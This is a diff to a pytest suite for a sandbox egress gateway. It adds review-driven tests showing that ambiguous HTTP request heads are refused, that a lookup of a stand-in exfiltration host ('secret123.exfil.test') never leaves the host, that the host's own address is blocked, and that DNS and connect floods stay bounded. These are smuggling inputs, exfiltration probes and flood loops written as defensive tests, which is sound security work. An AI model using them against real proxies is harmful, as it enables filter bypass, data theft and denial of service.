@@ -194,15 +194,20 @@ def session(gw, network=None):
 def sessions_end_with_their_test(request):
     """Each test's sessions are deleted after it (the gateway's cap is small)."""
     yield
-    if "gw" in request.fixturenames:
-        gw = request.getfixturevalue("gw")
-        while gw.sessions:
-            gw.api("DELETE", f"/v1/sessions/{gw.sessions.pop()}", timeout=60)
+    for name in ("gw", "ns_gw"):
+        if name in request.fixturenames:
+            gw = request.getfixturevalue(name)
+            while gw.sessions:
+                sid = gw.sessions.pop()
+                sid, token = sid if isinstance(sid, tuple) else (sid, None)
+                headers = {"Authorization": f"token {token}"} if token else {}
+                gw.api("DELETE", f"/v1/sessions/{sid}", headers=headers, timeout=60)
 
 
-def probe(gw, sid, code):
+def probe(gw, sid, code, token=None):
+    headers = {"Authorization": f"token {token}"} if token else {}
     r = gw.api("POST", f"/v1/sessions/{sid}/execute", json={"code": code + "\nimport json as _j\nprint('@@' + _j.dumps(result))",
-                                                            "timeout_s": 120}, timeout=240)
+                                                            "timeout_s": 120}, headers=headers, timeout=240)
     assert r.status_code == 200, r.text
     out = r.json()
     lines = [l for l in out["stdout"].splitlines() if l.startswith("@@")]
@@ -526,3 +531,348 @@ def test_a_bad_network_is_a_400_naming_it(gw, network, needle):
     r = gw.api("POST", "/v1/sessions", json={"network": network})
     assert r.status_code == 400 and needle in r.json()["message"], r.text
     assert gw.api("GET", "/api/status").status_code == 200
+
+
+# Review turn 3: M1, M2, M5 and L3.
+
+RAW = r"""
+import socket, time
+def raw(head, timeout=30):
+    '''One request head straight to the proxy's forwarder; the status line back.'''
+    s = socket.create_connection(('127.0.0.1', 3128), timeout=timeout)
+    t0 = time.monotonic()
+    s.sendall(head.encode())
+    data = b''
+    try:
+        while b'\r\n\r\n' not in data:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+    except OSError as e:
+        return {'status': 0, 'line': type(e).__name__, 's': time.monotonic() - t0}
+    finally:
+        s.close()
+    line = data.decode(errors='replace').split('\r\n')[0]
+    body = data.decode(errors='replace').partition('\r\n\r\n')[2]
+    return {'status': int(line.split(' ')[1]) if line.startswith('HTTP/') else 0, 'line': line, 'body': body,
+            's': time.monotonic() - t0}
+def connect(target, timeout=30):
+    return raw(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n', timeout)
+"""
+
+
+def gateway_figures(g):
+    """RSS (KiB), open fds and CPU seconds of a gateway process."""
+    pid = g.proc.pid
+    status = open(f"/proc/{pid}/status").read()
+    rss = int(next(l for l in status.splitlines() if l.startswith("VmRSS:")).split()[1])
+    fds = len(os.listdir(f"/proc/{pid}/fd"))
+    stat = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
+    cpu = (int(stat[11]) + int(stat[12])) / os.sysconf("SC_CLK_TCK")
+    return {"rss_kib": rss, "fds": fds, "cpu_s": cpu}
+
+
+def metric(g, name):
+    for line in g.api("GET", "/metrics").text.splitlines():
+        if line.startswith(name + " ") or line.startswith(name + "{") and line.split(" ")[0] == name:
+            return float(line.split()[-1])
+    return None
+
+
+@pytest.mark.gateway_logic
+def test_l3_ambiguous_request_heads_are_refused_with_400_and_never_forwarded(gw, upstream):
+    sid = session(gw, {"allow": ["allowed.test"]})
+    before = len(upstream.seen)
+    heads = {
+        "space_before_colon": "GET http://allowed.test/l3a HTTP/1.1\r\nHost : denied.test\r\n\r\n",
+        "two_lengths": "POST http://allowed.test/l3b HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\nhello",
+        "same_length_twice": "POST http://allowed.test/l3c HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
+        "obs_fold": "GET http://allowed.test/l3d HTTP/1.1\r\nX-A: 1\r\n Host: denied.test\r\n\r\n",
+        "te_with_space": "POST http://allowed.test/l3e HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
+    }
+    res = probe(gw, sid, RAW + f"result = {{k: raw(v) for k, v in {heads!r}.items()}}\n"
+                               "result['fine'] = raw('GET http://allowed.test/l3ok HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')")
+    for key in heads:
+        assert res[key]["status"] == 400, (key, res[key])
+    assert res["fine"]["status"] == 200, res["fine"]
+    assert [s["path"] for s in upstream.seen[before:]] == ["/l3ok"], upstream.seen[before:]
+
+
+# A name server of our own, in the test's network namespace: it logs every
+# query, answers A records of the names it knows with the namespace's
+# public-looking address, and never answers names under slow.test.
+DNS_SERVER = r"""
+import socket, struct, sys
+log = open(sys.argv[1], 'a', buffering=1)
+known = {'fast.dns.test', 'pypi.test', 'inside.dns.test'}
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(('127.0.0.1', 53))
+print('ready', flush=True)
+while True:
+    data, peer = s.recvfrom(4096)
+    try:
+        qid, flags, qd = struct.unpack('>HHH', data[:6])
+        at, labels = 12, []
+        while data[at]:
+            labels.append(data[at + 1:at + 1 + data[at]].decode()); at += 1 + data[at]
+        qtype = struct.unpack('>H', data[at + 1:at + 3])[0]
+        question = data[12:at + 5]
+    except Exception:
+        continue
+    name = '.'.join(labels).lower()
+    log.write(name + ' ' + str(qtype) + '\n')
+    if name.endswith('slow.test'):
+        continue
+    if name in known:
+        answers = b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 5, 4) + socket.inet_aton(sys.argv[2]) if qtype == 1 else b''
+        rcode = 0
+    else:
+        answers, rcode = b'', 3
+    s.sendto(struct.pack('>HHHHHH', qid, 0x8180 | rcode, 1, 1 if answers else 0, 0, 0) + question + answers, peer)
+"""
+
+PUBLIC_LOOKING = "192.88.99.7"  # the old 6to4 relay anycast: public, unused, and only ever on our dummy interface
+CAPPED_TOKEN = "capped-token-" + uuid.uuid4().hex[:8]
+
+
+@pytest.fixture(scope="module")
+def ns_gw(tmp_path_factory):
+    """A gateway (runc) in a network namespace of its own with a resolv.conf
+    of its own (a private mount namespace): the namespace has a dummy
+    address that looks public on its interface, the gateway's own, and our name
+    server on its loopback. Reached over the namespace's veth."""
+    import ctypes
+    if os.geteuid() != 0 or shutil.which("runc") is None:
+        if os.environ.get("CELLGATE_REQUIRE_SANDBOX") == "1":
+            pytest.fail("egress tests need root and runc")
+        pytest.skip("needs root and runc")
+    d = tmp_path_factory.mktemp("egress-ns")
+    ns = NetnsHost("cg-egdns")
+    procs = []
+    try:
+        ip = ["ip", "-n", ns.name]
+        # A second address on the namespace's end of the veth (this kernel has
+        # no dummy interfaces): in the namespace only, routed nowhere else.
+        subprocess.run(ip + ["addr", "add", f"{PUBLIC_LOOKING}/32", "dev", ns.ns_if], check=True)
+        # Nothing in the namespace routes anywhere but its /30 and itself.
+        routes = subprocess.run(ip + ["-j", "route"], capture_output=True, text=True, check=True).stdout
+        assert "default" not in routes, routes
+        dns_log = d / "dns.log"
+        dns_log.write_text("")
+        dns = subprocess.Popen(["ip", "netns", "exec", ns.name, "/usr/bin/python3", "-c", DNS_SERVER, str(dns_log),
+                                PUBLIC_LOOKING], stdout=subprocess.PIPE, text=True)
+        procs.append(dns)
+        assert dns.stdout.readline().strip() == "ready"
+        # An HTTP listener on every address of the namespace (the public-looking one too).
+        web = subprocess.Popen(["ip", "netns", "exec", ns.name, "/usr/bin/python3", "-m", "http.server", "--bind",
+                                "0.0.0.0", "18080"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        procs.append(web)
+        resolv = d / "resolv.conf"
+        resolv.write_text("nameserver 127.0.0.1\noptions timeout:3 attempts:1\n")
+        config = d / "config.json"
+        config.write_text(json.dumps({
+            "kernelspecs": {"python3": {"runtime": "runc"}},
+            "tokens": [{"token": CAPPED_TOKEN, "tenant": "capped", "network": {"allow": ["pypi.test"]}}]}))
+        netns_path = f"/run/netns/{ns.name}"
+
+        def enter():
+            libc = ctypes.CDLL(None, use_errno=True)
+            fd = os.open(netns_path, os.O_RDONLY)
+            if libc.setns(fd, 0x40000000) != 0:  # CLONE_NEWNET
+                os._exit(90)
+            if libc.unshare(0x00020000) != 0:  # CLONE_NEWNS
+                os._exit(91)
+            if libc.mount(b"none", b"/", None, 16384 | 262144, None) != 0:  # MS_REC | MS_PRIVATE
+                os._exit(92)
+            if libc.mount(str(resolv).encode(), b"/etc/resolv.conf", None, 4096, None) != 0:  # MS_BIND
+                os._exit(93)
+
+        # 192.88.99.9, when the test adds it, is the host's own but opened by the operator.
+        g = Gateway("--config", str(config), "--max-kernels", "6", "--egress-dns-timeout", "2",
+                    "--egress-allow-internal", "192.88.99.9/32",
+                    "--egress-dns-per-session", "4", "--egress-accept-rate", "50")
+        g.args[g.args.index("--ip") + 1] = ns.addr
+        g.host = ns.addr
+        g.preexec = enter
+        g.start()
+        # The gateway must be in our namespace before any test makes it dial.
+        assert os.stat(f"/proc/{g.proc.pid}/ns/net").st_ino == os.stat(netns_path).st_ino
+        g.sessions = []
+        g.ns, g.dns_log = ns, dns_log
+        yield g
+        g.stop()
+        g.cleanup()
+    finally:
+        for p in procs:
+            p.kill()
+            p.wait()
+        ns.close()
+
+
+def ns_session(g, network, token=None):
+    """A session on the namespaced gateway (deleted after the test, as its owner)."""
+    headers = {"Authorization": f"token {token}"} if token else {}
+    r = g.api("POST", "/v1/sessions", json={"timeout_s": 120, "network": network}, headers=headers, timeout=180)
+    assert r.status_code == 201, r.text
+    g.sessions.append((r.json()["id"], token))
+    return r.json()["id"]
+
+
+def test_m1_a_name_outside_the_maximum_is_never_looked_up(ns_gw):
+    g = ns_gw
+    # The tenant's maximum is pypi.test; the session adds a public address (a CIDR entry).
+    sid = ns_session(g, {"allow": ["pypi.test", "1.1.1.1"]}, token=CAPPED_TOKEN)
+    res = probe(g, sid, RAW + "result = {'exfil': connect('secret123.exfil.test:443'), "
+                              "'inside': connect('pypi.test:443')}", token=CAPPED_TOKEN)
+    queried = g.dns_log.read_text()
+    # The name inside the maximum was looked up (our server is the one asked) ...
+    assert "pypi.test" in queried, queried
+    assert res["inside"]["status"] == 403 and "own address" in res["inside"]["body"], res
+    # ... and the one outside it never left the host.
+    assert res["exfil"]["status"] == 403, res
+    assert "exfil" not in queried, queried
+    log = g.api("GET", f"/v1/sessions/{sid}/network/log",
+                headers={"Authorization": f"token {CAPPED_TOKEN}"}).json()["connections"]
+    assert any(c["host"] == "secret123.exfil.test" and c["verdict"] == "refused" for c in log), log
+
+
+def test_m1_slow_lookups_of_one_session_do_not_delay_another(ns_gw):
+    g = ns_gw
+    a = ns_session(g, {"allow": ["*.slow.test"]})
+    b = ns_session(g, {"allow": ["fast.dns.test"]})
+    measure = RAW + """
+import statistics
+times = []
+for i in range(5):
+    r = connect('fast.dns.test:443')
+    assert r['status'] == 403 and 'own address' in r['body'], r
+    times.append(r['s'])
+result = {'max_s': max(times), 'median_s': statistics.median(times)}
+"""
+    before = probe(g, b, measure)
+    figures = {"before": gateway_figures(g)}
+    # A: 24 threads asking for names that never answer, for 8 s.
+    started = probe(g, a, RAW + """
+import threading, time, uuid
+flood = {'sent': 0, 'busy': 0, 'limited': 0, 'other': 0}
+def hammer():
+    end = time.monotonic() + 8
+    while time.monotonic() < end:
+        r = connect(f'{uuid.uuid4().hex}.slow.test:443', timeout=20)
+        flood['sent'] += 1
+        flood[{503: 'busy', 429: 'limited'}.get(r['status'], 'other')] += 1
+for _ in range(24):
+    threading.Thread(target=hammer, daemon=True).start()
+time.sleep(1)
+result = dict(flood)
+""")
+    during = probe(g, b, measure)
+    figures["peak"] = gateway_figures(g)
+    in_flight = metric(g, "cellgate_egress_dns_in_flight")
+    import time
+    time.sleep(9)
+    after = probe(g, b, measure)
+    figures["after"] = gateway_figures(g)
+    flood = probe(g, a, "result = dict(flood)")
+    print(f"\nM1 DNS flood (24 threads, 8 s): B's lookup max {before['max_s']*1000:.0f} / {during['max_s']*1000:.0f} / "
+          f"{after['max_s']*1000:.0f} ms (before/during/after); gateway RSS "
+          f"{figures['before']['rss_kib']}/{figures['peak']['rss_kib']}/{figures['after']['rss_kib']} KiB, fds "
+          f"{figures['before']['fds']}/{figures['peak']['fds']}/{figures['after']['fds']}; "
+          f"A: {flood['sent']} asked, {flood['busy']} refused busy; lookups in flight at peak {in_flight}")
+    assert started["sent"] >= 0
+    # The session's bound held: its lookups in flight never passed 4 ...
+    assert in_flight is not None and in_flight <= 4, in_flight
+    assert flood["busy"] > 0, flood
+    # ... and B's lookups did not wait behind them (a queue would cost B a 2 s timeout or more).
+    assert during["max_s"] < 1.0, during
+    assert figures["peak"]["fds"] - figures["before"]["fds"] < 200, figures
+
+
+def test_m2_the_hosts_own_address_is_refused(ns_gw):
+    g = ns_gw
+    sid = ns_session(g, {"allow": [PUBLIC_LOOKING, "0.0.0.0/0", "192.88.99.8", "192.88.99.9"]})
+    res = probe(g, sid, RAW + f"result = {{'connect': connect('{PUBLIC_LOOKING}:18080'), "
+                              f"'get': raw('GET http://{PUBLIC_LOOKING}:18080/ HTTP/1.1\\r\\nHost: {PUBLIC_LOOKING}:18080\\r\\n\\r\\n')}}")
+    for key in ("connect", "get"):
+        assert res[key]["status"] == 403 and "own address" in res[key]["body"], (key, res[key])
+    # An address the host gains later is its own too (netlink's RTM_NEWADDR).
+    subprocess.run(["ip", "-n", g.ns.name, "addr", "add", "192.88.99.8/32", "dev", g.ns.ns_if], check=True)
+    try:
+        res = probe(g, sid, RAW + "result = connect('192.88.99.8:18080')")
+    finally:
+        subprocess.run(["ip", "-n", g.ns.name, "addr", "del", "192.88.99.8/32", "dev", g.ns.ns_if], check=True)
+    assert res["status"] == 403 and "own address" in res["body"], res
+    # One the operator opened: reached, but never on the gateway's own port.
+    subprocess.run(["ip", "-n", g.ns.name, "addr", "add", "192.88.99.9/32", "dev", g.ns.ns_if], check=True)
+    try:
+        get = "GET http://192.88.99.9:{0}/ HTTP/1.1\\r\\nHost: 192.88.99.9:{0}\\r\\n\\r\\n"
+        res = probe(g, sid, RAW + f"result = {{'web': raw('{get.format(18080)}'), 'gateway': raw('{get.format(g.port)}')}}")
+    finally:
+        subprocess.run(["ip", "-n", g.ns.name, "addr", "del", "192.88.99.9/32", "dev", g.ns.ns_if], check=True)
+    assert res["web"]["status"] == 200, res
+    assert res["gateway"]["status"] == 403 and "gateway's own port" in res["gateway"]["body"], res
+    metrics = g.api("GET", "/metrics").text
+    assert "cellgate_egress_host_addresses " in metrics
+
+
+@pytest.mark.gateway_logic
+def test_m5_a_connect_flood_costs_bounded_cpu_and_others_keep_latency(gw):
+    import time
+    flooder = session(gw, {"allow": ["allowed.test"]})
+    other = session(gw, {"allow": ["allowed.test"]})
+    measure = FETCH + """
+import time
+times = []
+for i in range(5):
+    t0 = time.monotonic(); r = fetch('http://allowed.test/m5'); times.append(time.monotonic() - t0)
+    assert r.get('status') == 200, r
+result = {'max_s': max(times)}
+"""
+
+    def healthz_max():
+        worst = 0
+        for _ in range(10):
+            t0 = time.monotonic()
+            assert gw.api("GET", "/healthz", timeout=10).status_code == 200
+            worst = max(worst, time.monotonic() - t0)
+        return worst
+
+    logged_before = len(gw.api("GET", f"/v1/sessions/{flooder}/network/log?limit=1000").json()["connections"])
+    before = {"other": probe(gw, other, measure)["max_s"], "healthz": healthz_max(), **gateway_figures(gw)}
+    limited_before = metric(gw, "cellgate_egress_rate_limited_total") or 0
+    duration = 6
+    # 4 processes: connect to the proxy's socket, send a bad head, close; as fast as they can.
+    probe(gw, flooder, f"""
+import multiprocessing, socket, time
+def loop():
+    end = time.monotonic() + {duration}
+    n = 0
+    while time.monotonic() < end:
+        try:
+            s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect('/run/egress/proxy.sock'); s.send(b'X\\r\\n\\r\\n'); s.close()
+        except OSError:
+            pass
+        n += 1
+for _ in range(4):
+    multiprocessing.Process(target=loop, daemon=False).start()
+result = 'started'
+""")
+    t0 = time.monotonic()
+    time.sleep(1)
+    during = {"other": probe(gw, other, measure)["max_s"], "healthz": healthz_max(), **gateway_figures(gw)}
+    time.sleep(max(0, duration + 1 - (time.monotonic() - t0)))
+    after = {"other": probe(gw, other, measure)["max_s"], "healthz": healthz_max(), **gateway_figures(gw)}
+    cpu = after["cpu_s"] - before["cpu_s"]
+    limited = (metric(gw, "cellgate_egress_rate_limited_total") or 0) - limited_before
+    logged = len(gw.api("GET", f"/v1/sessions/{flooder}/network/log?limit=1000").json()["connections"]) - logged_before
+    print(f"\nM5 connect flood (4 processes, {duration} s): gateway CPU {cpu:.2f} s; another session's request max "
+          f"{before['other']*1000:.0f}/{during['other']*1000:.0f}/{after['other']*1000:.0f} ms, /healthz max "
+          f"{before['healthz']*1000:.0f}/{during['healthz']*1000:.0f}/{after['healthz']*1000:.0f} ms, RSS "
+          f"{before['rss_kib']}/{during['rss_kib']}/{after['rss_kib']} KiB, fds {before['fds']}/{during['fds']}/{after['fds']} "
+          f"(before/during/after); {limited:.0f} refused past the rate, {logged} logged")
+    # Records: at most the rate (50/s, bursts of 100) for the flood's length, plus the other's probes.
+    assert logged <= 50 * (duration + 3) + 100, logged
+    assert limited > 0
+    assert cpu < 0.5 * (duration + 3), cpu
+    assert during["other"] < 1.0 and during["healthz"] < 0.5, during
